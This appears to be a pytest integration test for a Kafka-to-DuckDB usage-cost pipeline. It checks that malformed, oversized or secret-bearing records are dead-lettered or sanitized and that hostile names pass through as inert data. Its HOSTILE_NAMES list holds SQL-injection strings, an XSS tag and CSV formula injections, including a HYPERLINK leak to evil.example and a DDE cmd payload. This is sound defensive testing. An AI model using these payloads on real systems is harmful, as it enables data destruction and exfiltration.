"""A hostile corpus through the real broker, landing, dbt and the CLI: every record ends in the DLQ with a
reason or lands sanitized, is counted, never stops a run, and no content reaches storage; hostile names
travel to the marts, the CLI and the FOCUS CSV as data, never as SQL or a spreadsheet formula.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path
from typing import Any

import duckdb
import pytest

from core.home import Home
from tests.factories import encode, read_topic, usage_event
from tierwise.cli import main

pytestmark = [pytest.mark.kafka, pytest.mark.slow]

SECRET = "SECRET-PROMPT-TEXT-7f3a"


def _nested(depth: int) -> bytes:
    return b'{"event_id":"deep","x":' + b"[" * depth + b"]" * depth + b"}"


def ev(i: int, **overrides: Any) -> bytes:
    return encode(usage_event(i, **overrides))


# (value, what must happen: an error class of raw.rejected_events, or "lands")
CORPUS: list[tuple[str, bytes | None, str]] = [
    ("invalid JSON", b'{"event_id": "x", "prompt": "' + SECRET.encode(), "invalid_json"),
    ("invalid UTF-8", b'{"event_id":"\xff\xfe","tier":"closed_api"}', "invalid_json"),
    ("not an object", b'["' + SECRET.encode() + b'"]', "contract_violation"),
    ("wrong type", ev(1, input_tokens="1200"), "contract_violation"),
    ("negative tokens", ev(2, output_tokens=-3), "contract_violation"),
    ("absurd tokens", ev(3, input_tokens=10**15), "contract_violation"),
    ("cached > input", ev(4, input_tokens=10, cached_input_tokens=11), "contract_violation"),
    ("unknown tier", ev(5, tier="quantum_api"), "contract_violation"),
    ("missing field", encode({k: v for k, v in usage_event(6).items() if k != "workload"}), "contract_violation"),
    ("NaN latency", ev(7).replace(b"}", b', "duration_ms": NaN}'), "contract_violation"),
    ("1 MB payload", ev(8, note="x" * 1_000_000), "oversized"),
    ("1 MB prompt", ev(9, prompt=SECRET * 40_000), "oversized"),
    ("nested 5,000 deep", _nested(5000), "invalid_json"),
    ("nested 5,000 deep, not JSON", _nested(5000)[:-1], "invalid_json"),
    ("far future", ev(10, event_time="2999-01-01T00:00:00Z"), "out_of_window"),
    ("far past", ev(11, event_time="1970-01-01T00:00:00Z"), "out_of_window"),
    ("before partitions start", ev(12, event_time="2025-12-31T23:59:59Z"), "out_of_window"),
    ("newline in workload", ev(13, workload="search\nranker"), "contract_violation"),
    ("NUL in model", ev(14, model="gpt\u0000-5.4"), "contract_violation"),
    ("line separator in team", ev(15, team="a\u2028b"), "contract_violation"),
    ("tombstone", None, "empty"),
    ("empty", b"", "empty"),
    ("duplicate keys", ev(16).replace(b'{"event_id": "ev-00000016"', b'{"event_id": "x", "event_id": "ev-00000016"'), "lands"),
    ("prompt in extra fields", ev(17, prompt=SECRET, messages=[{"content": SECRET}], tags={"k": "v"}), "lands"),
    ("prompt in tags", ev(18, tags={"system_prompt": SECRET, "k": "v"}), "lands"),
]
HOSTILE_NAMES = [
    "'; DROP TABLE raw.usage_events; --",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "<script>alert(1)</script>",
    'Robert"); DELETE FROM main.spend_daily; --',
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def test_hostile_corpus_is_dead_lettered_or_sanitized_and_never_stops_landing(
    kafka_bootstrap: str,
    fresh_topics: dict[str, str],
    topic_prefix: str,
    tw_home: Home,
    monkeypatch: pytest.MonkeyPatch,
    capfd: pytest.CaptureFixture[str],
    tmp_path: Path,
) -> None:
    from kafka import KafkaProducer

    monkeypatch.setenv("KAFKA_BOOTSTRAP_SERVERS", kafka_bootstrap)
    monkeypatch.setenv("TIERWISE_TOPIC_PREFIX", topic_prefix)
    topic = fresh_topics["usage"]
    good = [ev(100 + i) for i in range(200)]
    # Priced model (so the FOCUS export has their rows), and the same names as unpriced models.
    hostile = [ev(300 + i, workload=name, team=name, tags={"note": name}) for i, name in enumerate(HOSTILE_NAMES)]
    hostile += [ev(400 + i, model=name) for i, name in enumerate(HOSTILE_NAMES)]
    producer = KafkaProducer(bootstrap_servers=kafka_bootstrap, acks="all", max_request_size=8 << 20)
    # All corpus records on one partition, between good ones: a record that stopped landing would
    # strand every good record after it.
    for n, (_, value, _) in enumerate(CORPUS):
        producer.send(topic, key=b"k", value=value, partition=0)
        producer.send(topic, key=b"k", value=good[n], partition=0)
    for value in good[len(CORPUS) :] + hostile:
        producer.send(topic, key=b"k", value=value, partition=0)
    producer.flush(timeout=60)
    producer.close()

    assert main(["run"]) == 0
    out, err = capfd.readouterr()
    assert "Traceback" not in out + err
    expected_rejects = [c for c in CORPUS if c[2] != "lands"]
    landed_ok = len(good) + len(hostile) + (len(CORPUS) - len(expected_rejects))
    assert f"{topic}: landed {landed_ok}, duplicates dropped 0, rejected {len(expected_rejects)}" in out, out

    con = duckdb.connect(str(tw_home.warehouse), read_only=True)
    rejects = con.execute(
        "SELECT kafka_offset, error_class, reason, raw_value FROM raw.rejected_events WHERE topic = ? ORDER BY kafka_offset",
        [topic],
    ).fetchall()
    # Offsets 0, 2, 4, ... hold the corpus in order.
    by_offset = {o: (cls, reason, raw) for o, cls, reason, raw in rejects}
    for n, (what, _, outcome) in enumerate(CORPUS):
        if outcome == "lands":
            assert 2 * n not in by_offset, what
            continue
        cls, reason, _ = by_offset[2 * n]
        assert cls == outcome, (what, cls, reason)
        assert reason and "\n" not in reason, (what, reason)
    assert "TIERWISE_MAX_FUTURE_HOURS" in by_offset[2 * 14][1] and "TIERWISE_PARTITIONS_START" in by_offset[2 * 15][1]
    assert "must not contain control characters" in by_offset[2 * 17][1]

    landed = dict(con.execute("SELECT event_id, content_fields_dropped FROM raw.usage_events").fetchall())
    assert landed["ev-00000016"] == 0 and landed["ev-00000017"] == 2 and landed["ev-00000018"] == 1
    assert len(landed) == landed_ok
    # No content anywhere: not in any table or dead letter of the warehouse, not in the DLQ topic.
    for schema, table in con.execute("SELECT table_schema, table_name FROM information_schema.tables").fetchall():
        dump = con.execute(f'SELECT * FROM "{schema}"."{table}"').fetchall()
        assert SECRET not in repr(dump), f"{schema}.{table}"
    dlq = read_topic(kafka_bootstrap, fresh_topics["usage_dlq"], expect=len(expected_rejects))
    assert len(dlq) == len(expected_rejects)
    assert all(SECRET.encode() not in (r.value or b"") for r in dlq)
    assert all(dict(r.headers).get("__connect.errors.exception.message") for r in dlq)

    # Hostile names are data: the raw table survived, the marts hold them verbatim.
    names = {r[0] for r in con.execute("SELECT DISTINCT workload FROM main.spend_daily").fetchall()}
    models = {r[0] for r in con.execute("SELECT DISTINCT model FROM main.unpriced_usage").fetchall()}
    assert set(HOSTILE_NAMES) <= names and set(HOSTILE_NAMES) <= models
    assert con.execute("SELECT count(*) FROM raw.usage_events").fetchone() == (landed_ok,)
    con.close()

    # A second run is not stuck on any of those offsets.
    assert main(["run"]) == 0
    out, _ = capfd.readouterr()
    assert f"{topic}: landed 0, duplicates dropped 0, rejected 0" in out
    assert main(["status", "--json"]) == 0
    status = json.loads(capfd.readouterr().out)["topics"][topic]
    assert (status["landed_rows"], status["rejected_rows"]) == (landed_ok, len(expected_rejects))

    assert main(["spend", "--by", "workload", "--json"]) == 0
    rows = json.loads(capfd.readouterr().out)
    assert {r["workload"] for r in rows} >= set(HOSTILE_NAMES)
    assert main(["spend", "--by", "workload"]) == 0
    table = capfd.readouterr().out
    for name in HOSTILE_NAMES:
        assert sum(line.startswith(name) for line in table.splitlines()) == 1, name

    out_csv = tmp_path / "focus.csv"
    assert main(["export", "focus", "--out", str(out_csv)]) == 0
    capfd.readouterr()
    with out_csv.open(newline="") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "@"))]
    assert "'" + HOSTILE_NAMES[1] in cells and "'" + HOSTILE_NAMES[4] in cells
